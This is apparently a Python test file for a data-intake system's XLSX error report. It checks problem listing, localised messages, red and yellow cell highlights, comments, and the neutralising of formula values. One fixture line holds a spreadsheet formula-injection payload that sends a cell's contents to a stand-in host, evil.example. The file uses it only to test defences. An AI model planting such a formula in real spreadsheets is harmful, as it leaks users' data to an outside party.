"""The XLSX error report: the Problems list, the Data sheet with highlights and comments, neutralised values.

Pure tests: no database (the validator gets a hand-made context).
"""

from __future__ import annotations

import csv
import io
import re
import zipfile

from python_calamine import CalamineWorkbook

from niokr.intake.messages import render
from niokr.intake.parsing import read_table
from niokr.intake.reports import error_report_xlsx
from niokr.intake.services import problem_dict
from niokr.intake.validation import Context, validate_table

HYPERLINK = '=HYPERLINK("http://evil.example/?d="&A2,"click")'
HEADER = ["Номер контракта/лицензии", "Год", "Вид базы", "Сумма, тенге", "Документ-основание", "Примечание"]


def base_csv() -> bytes:
    buffer = io.StringIO()
    writer = csv.writer(buffer, delimiter=";", lineterminator="\r\n")
    writer.writerow(HEADER)
    writer.writerow(["R-1", "2025", "production_costs", "1 000,00", HYPERLINK, ""])
    writer.writerow(["R-1", "2025", "aggregate_income", "много", "ЛКУ", ""])
    return buffer.getvalue().encode("utf-8")


def report_for(data: bytes, language: str = "ru") -> tuple[bytes, list[dict]]:
    table = read_table(data, kind="base_figures")
    result = validate_table(table, kind="base_figures", context=Context(organisation_id=1, period_year=2025, rights={"R-1": (10, 1)}))
    problems = [problem_dict(p) for p in result.problems]
    return error_report_xlsx(data=data, kind="base_figures", problems=problems, language=language), problems


def sheet_rows(report: bytes, name: str) -> list[list]:
    workbook = CalamineWorkbook.from_filelike(io.BytesIO(report))
    return workbook.get_sheet_by_name(name).to_python()


def sheet_xml(report: bytes, member: str) -> str:
    with zipfile.ZipFile(io.BytesIO(report)) as archive:
        return archive.read(member).decode("utf-8")


def test_the_problems_sheet_lists_each_problem_with_its_cell_and_localised_message():
    report, problems = report_for(base_csv())
    error = next(p for p in problems if p["code"] == "amount_not_a_number")
    assert (error["column"], error["row"]) == ("D", 3)
    rows = sheet_rows(report, "Problems")
    assert rows[0] == ["Уровень", "Лист", "Ячейка", "Столбец", "Значение", "Сообщение", "Код"]
    line = next(r for r in rows[1:] if r[6] == "amount_not_a_number")
    assert line[2] == "D3"
    assert line[3] == HEADER[3]  # the column's header as the file writes it, not its code
    assert line[4] == "много"
    assert line[5] == render("amount_not_a_number", error["params"], "ru") == "Это не сумма."


def test_the_message_language_follows_the_requested_language():
    report, _ = report_for(base_csv(), language="en")
    rows = sheet_rows(report, "Problems")
    line = next(r for r in rows[1:] if r[6] == "amount_not_a_number")
    assert line[5] == "Not an amount."


def test_the_data_sheet_keeps_the_offending_cell_at_the_same_reference():
    report, _ = report_for(base_csv())
    rows = sheet_rows(report, "Data")
    # to_python() starts at A1 here: the header is row 1 of the submission and of the report.
    assert rows[0][0] == "Номер контракта/лицензии"
    assert rows[2][3] == "много"  # D3
    assert rows[1][0] == "R-1"


def test_an_error_cell_is_filled_red_and_a_warning_cell_yellow():
    report, _ = report_for(base_csv())
    workbook = CalamineWorkbook.from_filelike(io.BytesIO(report))
    data_index = workbook.sheet_names.index("Data") + 1
    sheet = sheet_xml(report, f"xl/worksheets/sheet{data_index}.xml")
    styles = sheet_xml(report, "xl/styles.xml")
    error_style = re.search(r'<c r="D3" s="(\d+)"', sheet)
    warning_style = re.search(r'<c r="F1" s="(\d+)"', sheet)  # the unknown column "Примечание"
    assert error_style and warning_style
    fills = re.findall(r"<fill>.*?</fill>", re.search(r"<fills[^>]*>(.*?)</fills>", styles, re.S).group(1), re.S)
    xfs = re.findall(r"<xf [^>]*>", re.search(r"<cellXfs[^>]*>(.*?)</cellXfs>", styles, re.S).group(1))

    def fill_of(style: str) -> str:
        return fills[int(re.search(r'fillId="(\d+)"', xfs[int(style)]).group(1))]

    assert "FFC7CE" in fill_of(error_style.group(1))
    assert "FFEB9C" in fill_of(warning_style.group(1))
    assert not re.search(r'<c r="A2" s=', sheet)  # a valid cell is not highlighted


def test_an_offending_cell_carries_its_message_as_a_comment():
    report, _ = report_for(base_csv())
    comments = sheet_xml(report, "xl/comments1.xml")
    assert 'ref="D3"' in comments
    assert render("amount_not_a_number", {}, "ru") in comments


def test_a_formula_like_value_is_neutralised_in_the_data_sheet():
    report, _ = report_for(base_csv())
    rows = sheet_rows(report, "Data")
    assert rows[1][4] == "'" + HYPERLINK
    with zipfile.ZipFile(io.BytesIO(report)) as archive:
        assert not any("<f>" in archive.read(n).decode("utf-8", "ignore") for n in archive.namelist() if n.startswith("xl/worksheets/"))


def test_a_formula_like_value_in_a_problem_is_neutralised_in_the_problems_sheet():
    problems = [{"severity": "error", "code": "required", "sheet": "", "row": 2, "column": "A", "value": "=1+2", "params": {}}]
    report = error_report_xlsx(data=base_csv(), kind="base_figures", problems=problems)
    rows = sheet_rows(report, "Problems")
    assert rows[1][4] == "'=1+2"


def test_an_xlsx_submission_is_reproduced_at_its_original_cells():
    import xlsxwriter

    buffer = io.BytesIO()
    workbook = xlsxwriter.Workbook(buffer)
    sheet = workbook.add_worksheet("Базы")
    sheet.write_string(0, 1, "Базовые показатели")
    for col, header in enumerate(HEADER[:5]):
        sheet.write_string(2, col + 1, header)
    sheet.write_row(3, 1, ["R-1", 2025, "production_costs", "abc", "ЛКУ"])
    workbook.close()
    report, problems = report_for(buffer.getvalue())
    error = next(p for p in problems if p["code"] == "amount_not_a_number")
    assert (error["sheet"], error["column"], error["row"]) == ("Базы", "E", 4)
    assert 'ref="E4"' in sheet_xml(report, "xl/comments1.xml")
    problems_rows = sheet_rows(report, "Problems")
    assert any(r[2] == "E4" and r[1] == "Базы" for r in problems_rows[1:])


def test_an_unreadable_file_gets_a_problems_sheet_only():
    data = b"\x00\x01garbage"
    problems = [problem_dict(p) for p in read_table(data, kind="base_figures").problems]
    report = error_report_xlsx(data=data, kind="base_figures", problems=problems)
    workbook = CalamineWorkbook.from_filelike(io.BytesIO(report))
    assert workbook.sheet_names == ["Problems"]
    assert sheet_rows(report, "Problems")[1][6] == problems[0]["code"]


def test_a_json_submission_gets_a_problems_sheet_only():
    data = b'{"kind": "base_figures", "rows": [{"amount": 5}]}'
    problems = [problem_dict(p) for p in read_table(data, kind="base_figures").problems]
    report = error_report_xlsx(data=data, kind="base_figures", problems=problems)
    assert CalamineWorkbook.from_filelike(io.BytesIO(report)).sheet_names == ["Problems"]
    assert any(r[6] == "money_not_a_string" for r in sheet_rows(report, "Problems"))
